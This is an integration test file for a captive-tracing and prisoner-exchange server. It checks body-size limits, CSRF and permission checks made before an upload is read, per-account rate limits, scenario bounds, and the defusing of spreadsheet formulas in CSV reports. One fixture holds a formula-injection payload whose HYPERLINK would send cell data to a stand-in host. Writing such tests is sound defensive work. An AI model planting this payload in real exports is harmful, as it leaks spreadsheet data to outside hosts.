//! Bounded work for a logged-in account: bodies bounded per route (413), permission and
//! the web form's CSRF token checked before an upload is read, import jobs and exchange
//! plans bounded per account and in total (429 with `Retry-After`), scenarios bounded
//! (422), and CSV for people defused for spreadsheets. The real server on a free port,
//! on SQLite and (with `REPATRIA_TEST_PG_URL`) PostgreSQL.

use repatria_store::testing::both_backends;
use std::time::Duration;

use repatria_core::Role;
use repatria_server::work::Kind;
use repatria_testing::TestApp;

use crate::api::three_party_scenario;
use reqwest::StatusCode;
use serde_json::{json, Value};

async fn send(
    app: &TestApp,
    token: &str,
    method: reqwest::Method,
    path: &str,
    content_type: &str,
    body: Vec<u8>,
) -> (StatusCode, Option<String>, Value) {
    let response = reqwest::Client::new()
        .request(method, format!("{}{path}", app.base))
        .bearer_auth(token)
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status();
    let retry_after = response
        .headers()
        .get("retry-after")
        .map(|v| v.to_str().unwrap().to_string());
    let body = response.json().await.unwrap_or(Value::Null);
    (status, retry_after, body)
}

async fn post_json(
    app: &TestApp,
    token: &str,
    path: &str,
    body: &Value,
) -> (StatusCode, Option<String>, Value) {
    send(
        app,
        token,
        reqwest::Method::POST,
        path,
        "application/json",
        body.to_string().into_bytes(),
    )
    .await
}

async fn get(app: &TestApp, token: &str, path: &str) -> reqwest::Response {
    reqwest::Client::new()
        .get(format!("{}{path}", app.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
}

/// Sends the head of a request announcing a body of `announced` bytes, and `start` of
/// it, then nothing more: the answer (its status line) if the server gives one within
/// five seconds without the rest of the body, `None` if it waits for the body.
async fn answer_before_the_body(app: &TestApp, head: &str, start: &[u8]) -> Option<String> {
    use std::io::{Read, Write};
    let address = app.base.trim_start_matches("http://").to_string();
    let mut request = head.as_bytes().to_vec();
    request.extend_from_slice(start);
    tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        stream.write_all(&request).unwrap();
        let mut answer = vec![0u8; 4096];
        match stream.read(&mut answer) {
            Ok(n) if n > 0 => {
                let text = String::from_utf8_lossy(&answer[..n]).into_owned();
                Some(text.lines().next().unwrap_or_default().to_string())
            }
            _ => None,
        }
    })
    .await
    .unwrap()
}

async fn json_bodies_are_bounded_to_a_mebibyte_and_files_to_64(app: &TestApp) {
    let admin = app.user("admin-1", Role::Admin).await;
    let big = format!("{{\"family_name\": \"{}\"}}", "x".repeat(1024 * 1024));
    let (status, _, body) = send(
        app,
        &admin,
        reqwest::Method::POST,
        "/api/tracing/requests",
        "application/json",
        big.into_bytes(),
    )
    .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert_eq!(body["error"]["code"], "payload_too_large", "{body}");
    // Just under the bound, the same route reads the body (and finds fields missing).
    let (status, _, body) = post_json(
        app,
        &admin,
        "/api/tracing/requests",
        &json!({ "family_name": "x".repeat(1000) }),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");

    let file = vec![b'a'; 64 * 1024 * 1024 + 1];
    let (status, _, body) = send(
        app,
        &admin,
        reqwest::Method::POST,
        "/api/imports/preview?file_name=l.csv",
        "text/csv",
        file,
    )
    .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("67108864 bytes"),
        "{body}"
    );

    // The OpenAPI document says so for every route that takes a body.
    let doc: Value = get(app, &admin, "/api/openapi.json")
        .await
        .json()
        .await
        .unwrap();
    for path in [
        "/api/captives",
        "/api/imports",
        "/api/exchange/plan",
        "/api/users",
    ] {
        assert!(
            doc["paths"][path]["post"]["responses"]["413"].is_object(),
            "{path}"
        );
    }
    let start = &doc["paths"]["/api/imports"]["post"]["responses"];
    assert!(
        start["429"]["headers"]["Retry-After"].is_object(),
        "{start}"
    );
    let plan = &doc["paths"]["/api/exchange/plan"]["post"]["responses"];
    assert!(plan["429"]["headers"]["Retry-After"].is_object(), "{plan}");
}

async fn an_upload_is_not_read_before_the_permission_and_the_csrf_token(app: &TestApp) {
    // Uploads kept between preview and start are shared by the process.
    let _turn = repatria_testing::web_upload_turn().await;
    // A role that may not import: refused while the body is still coming.
    let medical = app.user("medical-1", Role::Medical).await;
    for path in [
        "/api/imports?file_name=l.csv",
        "/api/imports/preview?file_name=l.csv",
    ] {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {medical}\r\n\
             Content-Type: text/csv\r\nContent-Length: 60000000\r\n\r\n"
        );
        let answer = answer_before_the_body(app, &head, b"full_name\n").await;
        assert_eq!(answer.as_deref(), Some("HTTP/1.1 403 Forbidden"), "{path}");
    }
    let registrar = app.user("registrar-1", Role::Registrar).await;
    let head = format!(
        "POST /api/exchange/plan HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {registrar}\r\n\
         Content-Type: application/json\r\nContent-Length: 60000000\r\n\r\n"
    );
    let answer = answer_before_the_body(app, &head, b"{\"parties\": [").await;
    assert_eq!(
        answer.as_deref(),
        Some("HTTP/1.1 403 Forbidden"),
        "a registrar plans no exchange"
    );

    // The web upload: a role that may not import, then a wrong CSRF token before the file.
    let multipart = |csrf: &str| {
        format!(
            "--B\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{csrf}\r\n\
             --B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"l.csv\"\r\n\
             Content-Type: text/csv\r\n\r\nfull_name\n"
        )
    };
    let web_head = |cookie: &str| {
        format!(
            "POST /imports/preview HTTP/1.1\r\nHost: test\r\nCookie: {cookie}\r\n\
             Content-Type: multipart/form-data; boundary=B\r\nContent-Length: 60000000\r\n\r\n"
        )
    };
    let nurse = app.login_as("medical-web", Role::Medical).await;
    let answer = answer_before_the_body(
        app,
        &web_head(&nurse.cookie),
        multipart(&nurse.csrf).as_bytes(),
    )
    .await;
    assert_eq!(answer.as_deref(), Some("HTTP/1.1 403 Forbidden"));
    let clerk = app.login_as("registrar-web", Role::Registrar).await;
    let answer = answer_before_the_body(
        app,
        &web_head(&clerk.cookie),
        multipart("forged").as_bytes(),
    )
    .await;
    assert_eq!(answer.as_deref(), Some("HTTP/1.1 403 Forbidden"));
    // With the session's token the file is read (the server waits for the rest of it).
    let answer = answer_before_the_body(
        app,
        &web_head(&clerk.cookie),
        multipart(&clerk.csrf).as_bytes(),
    )
    .await;
    assert_eq!(answer, None);
    // The upload form takes files far over the 1 MiB of other forms.
    let mut big = String::from("id,full_name\n");
    for i in 0..100_000 {
        big.push_str(&format!("{i},Person Number {i}\n"));
    }
    assert!(big.len() > 2 * 1024 * 1024);
    let page = clerk
        .post_multipart("/imports/preview", |form| {
            form.part(
                "file",
                reqwest::multipart::Part::bytes(big.into_bytes()).file_name("big.csv"),
            )
        })
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    assert!(
        page.text().contains("Rows 100,000"),
        "the rows are counted: {}",
        page.text()
    );
    // A form that puts its file before the token is refused the same way.
    clerk
        .post_multipart_as_is(
            "/imports/preview",
            reqwest::multipart::Form::new()
                .part(
                    "file",
                    reqwest::multipart::Part::bytes(b"full_name\nX\n".to_vec()).file_name("l.csv"),
                )
                .text("_csrf", clerk.csrf.clone()),
        )
        .await
        .expect_status(StatusCode::FORBIDDEN);
}

/// Waits for an import job to end.
async fn finished(app: &TestApp, token: &str, id: &str) -> Value {
    loop {
        let job: Value = get(app, token, &format!("/api/imports/jobs/{id}"))
            .await
            .json()
            .await
            .unwrap();
        if job["state"] != "running" {
            return job;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Starts the import of a CSV file `l.csv`.
async fn upload_csv(
    app: &TestApp,
    token: &str,
    csv: Vec<u8>,
) -> (StatusCode, Option<String>, Value) {
    send(
        app,
        token,
        reqwest::Method::POST,
        "/api/imports?file_name=l.csv",
        "text/csv",
        csv,
    )
    .await
}

/// Imports a CSV file `l.csv`: the job once it is no longer running.
async fn finished_import(app: &TestApp, token: &str, csv: Vec<u8>) -> Value {
    let (status, _, job) = upload_csv(app, token, csv).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
    finished(app, token, job["id"].as_str().unwrap()).await
}

async fn import_jobs_are_bounded_per_account_and_in_total(app: &TestApp) {
    let state = &app.state;
    let one = app.user("registrar-1", Role::Registrar).await;
    let two = app.user("registrar-2", Role::Registrar).await;
    let upload = |token: &str, n: u32| {
        let token = token.to_string();
        async move {
            let csv = format!("id,full_name\n{n},Person {n}\n").into_bytes();
            upload_csv(app, &token, csv).await
        }
    };
    let held = [
        state.work.start(Kind::Import, "registrar-1").unwrap(),
        state.work.start(Kind::Import, "registrar-1").unwrap(),
    ];
    let (status, retry_after, body) = upload(&one, 1).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(retry_after.as_deref(), Some("10"));
    assert_eq!(body["error"]["code"], "too_many_requests");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("this account already has 2 import jobs running"),
        "{body}"
    );
    // Another account may still import; its finished job gives its place back.
    let (status, _, job) = upload(&two, 2).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
    let job = finished(app, &two, job["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "done", "{job}");
    let more = [
        state.work.start(Kind::Import, "registrar-3").unwrap(),
        state.work.start(Kind::Import, "registrar-3").unwrap(),
    ];
    let (status, retry_after, body) = upload(&two, 3).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "four in all: {body}");
    assert_eq!(retry_after.as_deref(), Some("10"));
    drop(more);
    drop(held);
    let (status, _, job) = upload(&one, 4).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");

    // Previews read a whole file too: bounded the same way, apart from imports.
    let previews = [
        state.work.start(Kind::Preview, "registrar-1").unwrap(),
        state.work.start(Kind::Preview, "registrar-1").unwrap(),
    ];
    let csv = b"id,full_name\n1,Person\n".to_vec();
    let path = "/api/imports/preview?file_name=l.csv";
    let (status, retry_after, body) = send(
        app,
        &one,
        reqwest::Method::POST,
        path,
        "text/csv",
        csv.clone(),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(retry_after.as_deref(), Some("5"));
    drop(previews);
    let (status, _, body) = send(app, &one, reqwest::Method::POST, path, "text/csv", csv).await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

async fn a_failed_job_keeps_the_first_thousand_rejected_rows(app: &TestApp) {
    let registrar = app.user("registrar-1", Role::Registrar).await;
    let mut csv = String::from("id,full_name,date_of_birth\n");
    for i in 0..1_500 {
        csv.push_str(&format!("{i},Person {i},not a date\n"));
    }
    let job = finished_import(app, &registrar, csv.into_bytes()).await;
    assert_eq!(job["state"], "failed");
    assert_eq!(job["error"], "1500 rows rejected", "{}", job["error"]);
    let kept = job["rejected_rows"].as_array().unwrap();
    assert_eq!(kept.len(), 1_000);
    assert_eq!(kept[0]["line"], 2);
}

/// Plans the three-party scenario with `token`.
async fn plan_three_parties(app: &TestApp, token: &str) -> (StatusCode, Option<String>, Value) {
    post_json(app, token, "/api/exchange/plan", &three_party_scenario()).await
}

async fn exchange_plans_are_bounded_per_account_and_in_total(app: &TestApp) {
    let state = &app.state;
    let negotiator = app.user("negotiator-1", Role::Negotiator).await;
    let held = state.work.start(Kind::Plan, "negotiator-1").unwrap();
    let (status, retry_after, body) = plan_three_parties(app, &negotiator).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(retry_after.as_deref(), Some("30"));
    let sides = json!({ "sides": [["UA"], ["RU", "KP"]] });
    let (status, _, body) = post_json(app, &negotiator, "/api/exchange/plan-held", &sides).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    drop(held);
    let others = [
        state.work.start(Kind::Plan, "negotiator-2").unwrap(),
        state.work.start(Kind::Plan, "negotiator-3").unwrap(),
    ];
    let (status, _, body) = plan_three_parties(app, &negotiator).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "two in all: {body}");
    drop(others);
    // Planned twice in a row: the first plan gave its place back.
    for _ in 0..2 {
        let (status, _, body) = plan_three_parties(app, &negotiator).await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
}

async fn scenarios_beyond_the_bounds_are_422(app: &TestApp) {
    let negotiator = app.user("negotiator-1", Role::Negotiator).await;
    let mut scenario = three_party_scenario();
    let prisoner = scenario["prisoners"][0].clone();
    scenario["prisoners"] = Value::Array(vec![prisoner; 250_001]);
    let (status, _, body) = post_json(app, &negotiator, "/api/exchange/plan", &scenario).await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        body["error"]
    );
    assert_eq!(
        body["error"]["fields"]["prisoners"],
        "too many: more than 250000 prisoners"
    );
    let mut scenario = three_party_scenario();
    scenario["parties"] = Value::Array(
        (0..201)
            .map(|i| json!({ "id": format!("P{i}"), "name": "x" }))
            .collect(),
    );
    let (status, _, body) = post_json(app, &negotiator, "/api/exchange/plan", &scenario).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        body["error"]["fields"]["parties"],
        "too many: more than 200 parties"
    );
}

async fn the_reconciliation_report_csv_keeps_names_as_text(app: &TestApp) {
    let registrar = app.user("registrar-1", Role::Registrar).await;
    let hostile = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
    let csv = format!(
        "id,family_name,given_name\n\"@x\",\"{}\",-Petro\n",
        hostile.replace('"', "\"\"")
    );
    let job = finished_import(app, &registrar, csv.into_bytes()).await;
    let import = job["import"]["id"].as_str().unwrap().to_string();
    let text = get(
        app,
        &registrar,
        &format!("/api/imports/{import}/report?format=csv"),
    )
    .await
    .text()
    .await
    .unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("external_id"), "'@x");
    assert!(cell("name").starts_with('\''), "{}", cell("name"));
    assert!(cell("name").contains(hostile), "{}", cell("name"));
    // The JSON report gives the name as it is.
    let json: Value = get(app, &registrar, &format!("/api/imports/{import}/report"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(json["items"][0]["external_id"], "@x");
}

both_backends!(
    setup = TestApp::web;
    json_bodies_are_bounded_to_a_mebibyte_and_files_to_64,
    an_upload_is_not_read_before_the_permission_and_the_csrf_token,
    import_jobs_are_bounded_per_account_and_in_total,
    a_failed_job_keeps_the_first_thousand_rejected_rows,
    exchange_plans_are_bounded_per_account_and_in_total,
    scenarios_beyond_the_bounds_are_422,
    the_reconciliation_report_csv_keeps_names_as_text,
);
